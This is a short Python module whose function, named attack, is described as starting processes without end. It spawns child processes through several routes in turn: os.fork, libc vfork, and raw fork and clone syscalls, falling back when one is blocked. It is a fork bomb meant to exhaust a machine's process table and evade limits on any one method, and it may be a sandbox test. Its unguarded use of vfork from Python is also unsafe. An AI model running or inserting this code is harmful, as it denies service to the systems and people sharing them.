"""Starts processes without end, by every call that makes one."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    for fork in (os.fork, libc.vfork, lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0)):
        try:
            if fork() > 0:
                return True
        except OSError:
            continue
    return False
